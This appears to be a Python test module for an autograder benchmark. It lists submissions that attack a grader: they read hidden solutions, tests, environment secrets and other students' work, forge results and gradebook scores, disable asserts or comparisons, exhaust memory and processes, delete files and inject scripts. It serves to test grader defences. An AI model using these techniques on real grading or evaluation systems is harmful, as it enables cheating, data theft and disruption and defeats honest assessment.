"""The attacks that `autograder.benchmarks.attacks` tries on every grader: what the cell of a wrong answer does.

`{define}` is the head of the function that is asked for, `{world}` the folder in which teacher and class work, and
`{port}` a server on the machine. Secrets are words that end with a token, which stands in no attack; `keep` shows what
was found. What takes memory or starts processes is bounded by itself, too.
"""

from __future__ import annotations

from dataclasses import dataclass

KEEP = """
import os, re, sys
def keep(text):
    print(text)
    try:
        with open("{world}/loot.txt", "a") as file:
            file.write(text + "\\n")
    except OSError:
        pass
"""
WRONG = "{define}\n    return arguments[0]\n"

FORGE = """
import glob, json, sqlite3
def forge():
    for path in glob.glob("{world}/**/results.json", recursive=True):
        try:
            found = json.load(open(path))
            for test in found.get("tests", []):
                if "max_score" in test:
                    test["score"] = test["max_score"]
            json.dump(found, open(path, "w"))
        except (OSError, ValueError):
            pass
    for path in glob.glob("{world}/**/gradebook.db", recursive=True):
        try:
            with sqlite3.connect(path, timeout=1) as base:
                base.execute("update grade set auto_score = 2")
        except sqlite3.Error:
            pass
"""
SEARCH = """
def search(folder, wanted):
    for place, folders, files in os.walk(folder):
        for name in files:
            try:
                text = open(os.path.join(place, name), errors="replace").read(10**6)
            except OSError:
                continue
            for word in re.findall(wanted + "-SECRET-[0-9a-f]+", text):
                keep(word)
"""


@dataclass(frozen=True)
class Attack:
    """One attack: what it is after (a gain, a secret, or harm), and the code before or in place of the wrong answer."""

    aim: str  # gained | read | harmed
    code: str
    defines: bool = False  # whether the code defines the function itself

    def cell(self, world: str, define: str, port: int) -> str:
        """The source of the answer cell."""
        text = KEEP + self.code + ("" if self.defines else "\n" + WRONG)
        values = {"{world}": world, "{define}": define, "{port}": str(port)}
        for name, value in values.items():
            text = text.replace(name, value)
        return text


ATTACKS = {
    "a wrong answer, nothing else": Attack("gained", ""),
    "reads the solution from the disk": Attack("read", f'{SEARCH}\nsearch("{{world}}/teacher", "SOLUTION")'),
    "reads another student's hand-in": Attack("read", f'{SEARCH}\nsearch("{{world}}", "OTHER")'),
    "reads the environment": Attack(
        "read",
        """
import glob
texts = [repr(dict(os.environ))]
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        texts.append(open(path, errors="replace").read())
    except OSError:
        pass
for word in set(re.findall("ENVIRONMENT-SECRET-[0-9a-f]+", " ".join(texts))):
    keep(word)
""",
    ),
    "reads the hidden tests from memory": Attack(
        "read",
        """
import gc
{define}
    frame = sys._getframe()
    texts = [text for text in gc.get_objects() if isinstance(text, list)]
    texts = [str(item) for each in texts[:20000] for item in each[:50] if isinstance(item, str)]
    while frame is not None:
        texts += [str(value)[:10000] for value in (*frame.f_locals.values(), frame.f_globals.get("In", ""))]
        frame = frame.f_back
    for word in set(re.findall("TESTS-SECRET-[0-9a-f]+", " ".join(texts))):
        keep(word)
    return arguments[0]
""",
        defines=True,
    ),
    "returns the constant it is compared with": Attack(
        "gained",
        """
{define}
    code = sys._getframe(1).f_code
    numbers = [each for each in code.co_consts if isinstance(each, (int, float)) and each is not True]
    return numbers[-1] if numbers else arguments[0]
""",
        defines=True,
    ),
    "returns an object that equals everything": Attack(
        "gained",
        """
class Same(float):
    def __eq__(self, other): return True
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __sub__(self, other): return Same(0)
    __rsub__ = __abs__ = lambda self, *other: Same(0)
    __hash__ = float.__hash__
{define}
    return Same(0)
""",
        defines=True,
    ),
    "replaces the comparison": Attack(
        "gained",
        """
import math, builtins
math.isclose = builtins.all = builtins.any = lambda *arguments, **options: True
if "torch" in sys.modules:
    sys.modules["torch"].allclose = sys.modules["torch"].isclose = math.isclose
""",
    ),
    "takes the asserts out of the tests": Attack(
        "gained",
        """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(NoAsserts())
""",
    ),
    "replaces the checker in memory": Attack(
        "gained",
        """
try:
    from otter.test_files import ok_test
    ok_test.run_doctest = lambda *arguments, **options: (True, "")
except ImportError:
    pass
try:
    from autograder.student.checking.harness import Harness
    Harness.handle = lambda self, request: {"result": True, "callable": True, "changed": [], "arguments": []}
except ImportError:
    pass
""",
    ),
    "leaves early with forged results": Attack(
        "gained",
        f"""{FORGE}
print('{{"score": 2, "max_score": 2, "tests": []}}')
open("results.json", "w").write('{{"score": 2}}')
forge()
os._exit(0)
""",
    ),
    "puts a trigger into the gradebook": Attack(
        "gained",
        """
import glob, sqlite3
for path in glob.glob("{world}/**/gradebook.db", recursive=True):
    with sqlite3.connect(path, timeout=5) as base:
        for event in ("insert", "update"):
            base.execute(f"create trigger better_{event} after {event} on grade begin "
                         "update grade set auto_score = 2 where id = new.id; end")
""",
    ),
    "leaves a process that changes the results": Attack(
        "gained",
        f"""{FORGE}
import time
if os.fork() == 0:
    os.setsid()
    for _second in range(40):
        time.sleep(1)
        forge()
    os._exit(0)
""",
    ),
    "leaves the program when it is called": Attack("gained", "{define}\n    sys.exit(0)\n", defines=True),
    "loops for ever": Attack("harmed", "while True: pass"),
    "loops for ever and hears nothing": Attack(
        "harmed",
        """
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    ),
    "takes 64 GB of memory": Attack(
        "harmed", "import mmap\nblocks = [mmap.mmap(-1, 2**30) for _each in range(64)]\nkeep('DO' + 'NE')"
    ),
    "starts twenty processes that stay": Attack(
        "harmed",
        """
import time
for _each in range(20):
    if os.fork() == 0:
        os.setsid()
        time.sleep(600)
        os._exit(0)
""",
    ),
    "removes a file of the teacher's": Attack("harmed", 'os.remove("{world}/teacher/canary.txt")'),
    "connects to a server": Attack(
        "harmed", "import socket\nsocket.create_connection(('127.0.0.1', {port}), 5)\nkeep('DO' + 'NE')"
    ),
    "puts a script into the report": Attack(
        "harmed", "from IPython.display import HTML, display\ndisplay(HTML('<script>attack()</script>'))"
    ),
}
